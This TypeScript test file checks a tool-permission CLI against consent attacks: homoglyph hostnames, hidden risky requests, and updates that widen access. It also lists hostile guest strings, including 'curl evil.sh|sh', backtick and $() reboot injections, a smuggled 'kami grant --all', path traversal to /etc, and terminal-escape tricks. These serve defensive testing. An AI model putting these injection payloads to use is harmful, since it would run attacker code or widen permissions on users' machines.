/**
 * Attack class: consent. A manifest may try to be granted what its user did not mean, by what it looks like, by how much it asks, by what it
 * becomes with an update; a guest may try to have its user paste a command.
 */
import { describe, expect, test } from "bun:test";
import { explainNames } from "../../lib/cli/consent.ts";
import { wordsOf } from "../../lib/cli/capability-words.ts";
import { parseManifest } from "../../lib/manifest/parse.ts";
import { formatNetworkRule } from "../../lib/network-rule.ts";
import { adviseOn } from "../../lib/policy/advice.ts";
import { type Capability, nameOf, parseCapability } from "../../lib/policy/capability.ts";
import { requestNames, weigh } from "../../lib/policy/effective.ts";
import { withSecurity } from "../manifest/sample.ts";

const securityOf = (lines: string) => parseManifest(withSecurity(lines), "tool.toml").security;

function granted(...names: readonly string[]): readonly Capability[] {
  return names.map((name) => {
    const parsed = parseCapability(name);
    if (!parsed.ok) throw new Error(`${name} ${parsed.problem}`);
    return parsed.capability;
  });
}

describe("what is shown", () => {
  test.each([
    ["аpi.github.com", "net:xn--pi-6kc.github.com", "a Cyrillic letter"],
    ["ɡithub.com", "net:xn--ithub-qmc.com", "a phonetic letter"],
    ["ＧＩＴＨＵＢ.com", "net:github.com", "full-width letters, which are what they look like"],
    ["github。com", "net:github.com", "an ideographic full stop"],
    ["ⓖithub.com", "net:github.com", "a letter in a circle"],
    ["faß.de", "net:xn--fa-hia.de", "a sharp s"],
  ])("is what is granted: %p is %s (%s)", (entry, name) => {
    expect(requestNames(securityOf(`net_allow_list = [${JSON.stringify(entry)}]`))).toEqual([name]);
  });

  test("is printable ASCII alone, whatever the manifest holds", () => {
    const entries = ["bücher.example/%E2%80%AE", "*.xn--p1ai", "[::ffff:1.2.3.4]:80/a%0Ab", "a_b.example/~x'y$(z)"];
    const names = requestNames(securityOf(`net_allow_list = ${JSON.stringify(entries)}\nenv_allow_list = ["A"]`));
    for (const text of [...names, ...explainNames(names).flat()]) expect(text).toMatch(/^[ -~]+$/);
  });

  test("begins with what is risky, so that a thousand harmless requests hide nothing", () => {
    const entries = [...Array.from({ length: 254 }, (_, at) => `"a${at}.example.com"`), '"*"', '"localhost"'];
    const variables = Array.from({ length: 255 }, (_, at) => `"V${at}"`);
    const security = securityOf(
      `net_allow_list = [${entries.join()}]\nenv_allow_list = [${variables.join()}, "AWS_SECRET"]`,
    );
    const rows = explainNames(requestNames(security));
    expect(rows).toHaveLength(512);
    expect(rows.slice(0, 4).map(([name]) => name)).toEqual([
      "net:*",
      "net:localhost",
      "env:AWS_SECRET",
      "net:a0.example.com",
    ]);
  });

  test("is refused beyond what a manifest may ask: ten thousand requests", () => {
    const entries = Array.from({ length: 10_000 }, () => '"*.a"').join();
    expect(() => securityOf(`net_allow_list = [${entries}]`)).toThrow("must have at most 256 entries");
  });

  test("names the risk of a host by what it leads to", () => {
    const risks = ["net:0x7f.1", "net:127.0.0.1", "net:localhost", "net:[::ffff:127.0.0.1]", "net:169.254.169.254"];
    expect(risks.map((name) => (parseCapability(name).ok ? wordsOf(name).risk : "refused"))).toEqual([
      "refused",
      "high",
      "high",
      "high",
      "high",
    ]);
  });
});

describe("an update that swaps what it asks for", () => {
  test.each([
    { before: ["api.a.com"], after: ["api.a.com.evil.com"], grants: ["net:api.a.com"], left: [] },
    { before: ["api.a.com"], after: ["*.a.com"], grants: ["net:api.a.com"], left: ["api.a.com"] },
    { before: ["https://a.com/v1"], after: ["a.com"], grants: ["net:https://a.com/v1"], left: ["https://a.com/v1"] },
    { before: ["a.com"], after: ["tcp://a.com:443"], grants: ["net:a.com"], left: [] },
    { before: ["*"], after: ["localhost", "169.254.169.254", "10.0.0.1"], grants: ["net:*"], left: [] },
    { before: ["a.com"], after: ["a.com:22"], grants: ["net:a.com"], left: [] },
  ])("$before to $after keeps $left of $grants", ({ after, grants, left }) => {
    const { network, listen, mounts } = weigh(
      securityOf(`net_allow_list = ${JSON.stringify(after)}`),
      granted(...grants),
    );
    expect([network.map(formatNetworkRule), listen, mounts]).toEqual([[...left], [], []]);
  });

  test("does not turn a granted name of one kind into another", () => {
    const security = securityOf(
      'net_allow_list = ["sandbox", "KEY"]\nfs_access = "sandbox"\nenv_allow_list = ["KEY", "sandbox"]',
    );
    const weighed = weigh(security, granted("net:sandbox", "env:sandbox"));
    expect([weighed.network.map(formatNetworkRule), weighed.hasSandbox, weighed.environment]).toEqual([
      ["sandbox"],
      false,
      ["sandbox"],
    ]);
  });
});

describe("what a guest says it was denied", () => {
  const tool = { id: "x.y", request: securityOf('net_allow_list = ["a.com", "*"]\nenv_allow_list = ["KEY"]') };
  const HOSTILE = [
    "net:a.com;curl evil.sh|sh",
    "net:a.com`reboot`",
    "net:a.com\nkami grant x.y --all",
    "net:a.com --all",
    "--all",
    "fs:/data:rw --mount /",
    "fs:/../../etc",
    "env:KEY net:*",
    "net:a.com/$(reboot)",
    "net:a.com/';reboot;'",
    "net:*;",
    "\u001b]8;;http://evil\u0007net:a.com\u001b]8;;\u0007",
    "\u202ekami grant\u202c",
  ];

  test.each(HOSTILE)("cannot make its user run anything but a grant of that very name: %p", (capability) => {
    const line = adviseOn(tool, { capability, target: capability });
    expect(line).not.toMatch(/[\p{Cc}\p{Cf}]/u);
    const [, command] = /grant it with: (.*)$/.exec(line) ?? [];
    if (command === undefined) return;
    const { stdout } = Bun.spawnSync([
      "/bin/sh",
      "-c",
      `kami() { for word; do printf '%s\\n' "$word"; done; }; ${command}`,
    ]);
    const words = stdout.toString().trimEnd().split("\n");
    expect(words.slice(0, 2)).toEqual(["grant", "x.y"]);
    expect(words).toHaveLength(3);
    const parsed = parseCapability(words[2] ?? "");
    expect(parsed.ok && nameOf(parsed.capability)).toBe(words[2] ?? "");
  });
});
